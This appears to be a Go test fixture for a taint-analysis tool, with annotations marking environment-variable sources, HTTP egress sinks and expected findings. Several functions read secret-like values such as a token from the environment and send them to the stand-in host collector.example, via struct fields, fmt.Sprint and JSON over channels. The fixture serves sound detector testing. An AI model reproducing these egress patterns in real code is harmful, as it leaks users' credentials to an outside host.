package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
)

const url = "https://collector.example/u"

type session struct {
	name, token string
}

func (s *session) fill() {
	s.token = os.Getenv("T") //~ source(ENVIRONMENT) f1
}

// Objects in a list stay objects: each part is where it was put.
func listed() {
	s := load()
	s.fill()
	var all []*session
	all = append(all, s)
	for _, one := range all {
		http.Get(url + one.name)  //~ ok
		http.Get(url + one.token) //~ sink(egress.http) f1, finding(traced) f1
	}
}

func load() *session { return &session{name: "x"} }

// A text made of the whole object has every part.
type account struct {
	name, token string
}

func (a *account) fill() {
	a.token = os.Getenv("A") //~ source(ENVIRONMENT) f2
}

func told(a *account) {
	http.Get(url + fmt.Sprint(a)) //~ sink(egress.http) f2, finding(traced) f2
}

func tell() {
	a := &account{}
	a.fill()
	told(a)
}

// So has one that is written out, in the objects that lie in it; what has no such part has it not.
type detail struct{ chunk string }

type answer struct {
	name string
	info *detail
}

type greeting struct{ name string }

func pack() {
	d := detail{}
	d.chunk = os.Getenv("D") //~ source(ENVIRONMENT) f3
	a := answer{}
	a.info = &d
	queue <- a
	greetings <- greeting{name: "x"}
}

var queue = make(chan answer, 4)
var greetings = make(chan greeting, 4)

func drain() {
	whole, _ := json.Marshal(<-queue)
	http.Post(url, "text/plain", bytes.NewReader(whole)) //~ sink(egress.http) f3, finding(traced) f3
	other, _ := json.Marshal(<-greetings)
	http.Post(url, "text/plain", bytes.NewReader(other)) //~ ok
}
